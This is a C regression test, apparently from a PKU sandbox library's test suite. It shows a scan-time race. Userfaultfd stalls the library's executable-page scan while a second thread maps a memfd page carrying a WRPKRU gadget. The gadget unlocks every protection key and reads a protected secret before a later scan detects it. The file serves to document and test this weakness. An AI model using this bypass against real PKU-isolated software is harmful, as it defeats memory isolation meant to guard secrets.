/* Mapping executable pages while scan=1 scans (PKU Pitfalls, Cerberus's
   scan-time TOCTTOU), made deterministic: the scan after a dlopen reads
   /proc/self/maps once, then every executable mapping in turn.  One of
   them is a page that userfaultfd serves, so the scan stops on it until
   the attacker's thread has mapped a WRPKRU of its own elsewhere (from
   a memfd, as harden=1 would allow) and only then lets it go on.
   The scan never sees the new mapping: dlopen succeeds and the gadget
   opens every key.  The next dlopen's scan finds it and refuses.
   harden=1 refuses userfaultfd (uffd-write.c), and with it, a thread
   that maps code during the scan wins the same way, only by timing.  */
/* { dg-do run } */
/* { dg-require-pku "" } */
/* { dg-env PKEYPLUG_OPTIONS scan=1 } */
/* { dg-exit-status 85 } */

#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "../pkeyplug.run/harden.h"
#include "../pkeyplug.run/probe.h"
#include "attack.h"
#include <pkeyplug.h>

#ifndef UFFD_USER_MODE_ONLY
# define UFFD_USER_MODE_ONLY 1
#endif

char secret[64] PKEY_PROTECT ("vault") = "s3cret";

static int uffd;
static unsigned char *bait;		/* Executable, served by UFFD.  */
static unsigned char *volatile gadget;	/* Mapped during the scan.  */

/* A page of code holding the gadget, from a memfd.  */
static unsigned char *
map_gadget (void)
{
  int fd = memfd_create ("late-gadget", 0);
  unsigned char *rw, *rx;

  if (fd < 0 || ftruncate (fd, 4096) != 0)
    return NULL;
  rw = mmap (NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  rx = mmap (NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
  if (rw == MAP_FAILED || rx == MAP_FAILED)
    return NULL;
  memcpy (rw, attack_wrpkru_code, sizeof attack_wrpkru_code);
  return rx;
}

/* Wait for the scan to touch the bait; map the gadget; let the scan go
   on with a page of zeros.  */
static void *
attacker (void *unused)
{
  struct pollfd pfd = { .fd = uffd, .events = POLLIN };
  struct uffd_msg msg;
  struct uffdio_zeropage zero;

  (void) unused;
  if (poll (&pfd, 1, -1) != 1 || read (uffd, &msg, sizeof msg) != sizeof msg
      || msg.event != UFFD_EVENT_PAGEFAULT)
    abort ();
  gadget = map_gadget ();
  zero.range.start = (unsigned long) bait;
  zero.range.len = 4096;
  zero.mode = 0;
  if (ioctl (uffd, UFFDIO_ZEROPAGE, &zero) != 0)
    abort ();
  return NULL;
}

int
main (void)
{
  struct uffdio_api api = { .api = UFFD_API };
  struct uffdio_register reg;
  int fd = memfd_create ("bait", 0);
  char buf[64];
  pthread_t t;
  void *lib;

  uffd = syscall (SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
  say ("userfaultfd", uffd);
  if (uffd < 0 || ioctl (uffd, UFFDIO_API, &api) != 0
      || fd < 0 || ftruncate (fd, 4096) != 0)
    return 1;
  bait = mmap (NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
  say ("map bait executable", bait == MAP_FAILED ? -1 : 0);
  reg.range.start = (unsigned long) bait;
  reg.range.len = 4096;
  reg.mode = UFFDIO_REGISTER_MODE_MISSING;
  say ("register bait", ioctl (uffd, UFFDIO_REGISTER, &reg));
  pthread_create (&t, NULL, attacker, NULL);

  lib = dlopen ("libm.so.6", RTLD_NOW);
  pthread_join (t, NULL);
  printf ("dlopen %s, gadget mapped during the scan %d\n",
	  lib ? "succeeded" : "failed", gadget != NULL);
  if (gadget != NULL)
    {
      unsigned int pkru = probe_rdpkru ();

      ((attack_set_pkru_fn *) gadget) (0);
      attack_copy (buf, sizeof buf, secret);
      ((attack_set_pkru_fn *) gadget) (pkru);
      printf ("read '%s', locked again %d\n", buf, !CAN_READ (secret));
    }
  fflush (stdout);
  dlopen ("libdl.so.2", RTLD_NOW);
  printf ("second dlopen went on\n");
  return 0;
}
/* { dg-output "userfaultfd: ok\n" } */
/* { dg-output "map bait executable: ok\n" } */
/* { dg-output "register bait: ok\n" } */
/* { dg-output "dlopen succeeded, gadget mapped during the scan 1\n" } */
/* { dg-output "read 's3cret', locked again 1\n" } */
/* { dg-output "pkeyplug: scan=1: stray wrpkru at 0x\[0-9a-f\]+ in /memfd:late-gadget \\(deleted\\) 0x\[0-9a-f\]+-0x\[0-9a-f\]+; refusing to run\n$" } */
